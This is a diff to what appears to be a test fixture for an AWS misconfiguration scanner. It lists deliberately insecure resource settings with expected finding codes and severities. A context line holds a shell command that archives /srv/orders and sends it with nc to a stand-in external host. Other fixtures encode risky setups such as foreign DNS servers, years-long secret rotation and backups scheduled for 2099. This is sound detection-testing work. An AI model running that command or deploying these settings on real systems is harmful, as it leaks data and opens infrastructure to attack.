@@ -14,7 +14,7 @@ from . import Attack
 from .cost_services import AWS, STACK
 from .tenth_aws import RES, TAKEN, R, _ours
 
-ESC = ("FJ-ESC-", "FJ-RES-")
+ESC = ("FJ-ESC-", "FJ-RES-", "FJ-EXP-127", "FJ-RSL-117")
 WATCH = ("FJ-ESC-", "FJ-RSL-")
 STRANGER = "198.51.100.7"
 SCRIPT = f"#!/bin/sh\ntar c /srv/orders | nc {STRANGER} 8443\n"
@@ -83,7 +83,7 @@ ATTACKS = (
                                   "auditLogDestination": _ours("logs", "log-group:/aws/fsx/files")},
         "selfManagedActiveDirectory": {**DOMAIN, "dnsIps": [STRANGER]}}),),
         "critical", "who answers for the names is the domain (Amazon FSx, 'Self-managed Active Directory')"),
-    Attack("every user of the domain administers a file server", ("FJ-IDN-", "FJ-ESC-"), (
+    Attack("every user of the domain administers a file server", ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-126"), (
         aws("fsx/OntapStorageVirtualMachine", {
             "fileSystemId": "fs-0123456789abcdef0", "name": "files", "rootVolumeSecurityStyle": "NTFS", "tags": TAGS,
             "activeDirectoryConfiguration": {"netbiosName": "FILES", "selfManagedActiveDirectoryConfiguration": {
@@ -106,7 +106,8 @@ ATTACKS = (
             {"field": "eventCategory", "equals": ["Management"]},
             {"field": "userIdentity.arn", "notStartsWiths": [f"arn:aws:sts::{ME}:assumed-role/deploy/"]}]}]}),),
         "major", "whoever assumes the role is not recorded (AWS CloudTrail Lake, 'Filtering by userIdentity.arn')"),
-    Attack("every distribution of CloudFront reaches the servers", ("FJ-EXP-",), (aws("ec2/SecurityGroup", {
+    Attack("every distribution of CloudFront reaches the servers", ("FJ-EXP-", "FJ-RES-113"), (
+        aws("ec2/SecurityGroup", {
         "vpcId": "vpc-1", "description": "portal", "tags": TAGS, "ingress": [{
             "description": "edge", "protocol": "tcp", "fromPort": 443, "toPort": 443,
             "prefixListIds": ["pl-3b927c52"]}], "egress": []}),),
@@ -116,7 +117,7 @@ ATTACKS = (
         "rds:StartExportTask", "ec2:CreateTrafficMirrorSession", "firehose:UpdateDestination",
         "dms:ModifyEndpoint"])),),
         "critical", f"{TAKEN} without reading it once (Service Authorization Reference)"),
-    Attack("every user of the domain has the files of a partner", ("FJ-IDN-", "FJ-ESC-"), (aws("transfer/Access", {
+    Attack("every user of the domain has the files of a partner", ("FJ-EXP-126",), (aws("transfer/Access", {
         "externalId": "S-1-5-21-1004336348-1177238915-682003330-513", "serverId": "s-0123456789abcdef0",
         "homeDirectoryType": "PATH", "homeDirectory": "/fs-0123456789abcdef0/partners",
         "role": f"arn:aws:iam::{ME}:role/files"}),),
@@ -125,7 +126,8 @@ ATTACKS = (
         "ami": "ami-0123456789abcdef0", "instanceType": "t4g.small", "subnetId": "subnet-1", "ipv6AddressCount": 1,
         "associatePublicIpAddress": False, "tags": TAGS, "vpcSecurityGroupIds": ["sg-1"],
         "metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 1},
-        "rootBlockDevice": {"encrypted": True, "kmsKeyId": KEY}}),),
+        "rootBlockDevice": {"encrypted": True, "kmsKeyId": KEY}}),
+        aws("ec2/Route", {"routeTableId": "rtb-1", "destinationIpv6CidrBlock": "::/0", "gatewayId": "igw-1"}, "out")),
         "major", "each IPv6 address of a machine is public (Amazon EC2, 'Assign IPv6 addresses')"),
     Attack("a secret is rotated every third year, by an expression", ("FJ-ESC-", "FJ-IDN-"), (
         aws("secretsmanager/SecretRotation", {
@@ -134,8 +136,9 @@ ATTACKS = (
             "rotationRules": {"scheduleExpression": "rate(999 days)"}}),),
         "major", "what was stolen opens the database for years (Secrets Manager, 'Schedule expressions')"),
     Attack("a plan of backups is due in the year 2099", WATCH, (aws("backup/Plan", {
-        "name": "all", "tags": TAGS, "rules": [{"ruleName": "daily", "targetVaultName": "vault", "schedule": "cron(0 5 1 1 ? 2099)",
-                                                "lifecycle": {"deleteAfter": 35}}]}),),
+        "name": "all", "tags": TAGS, "rules": [{
+            "ruleName": "daily", "targetVaultName": "vault", "schedule": "cron(0 5 1 1 ? 2099)",
+            "lifecycle": {"deleteAfter": 35}}]}),),
         "major", "there is no backup (AWS Backup, 'Schedule')"),
     Attack("the guard of the organisation denies until a day that is over", ESC, (aws("organizations/Policy", {
         "name": "guard", "type": "SERVICE_CONTROL_POLICY", "tags": TAGS, "content": document(
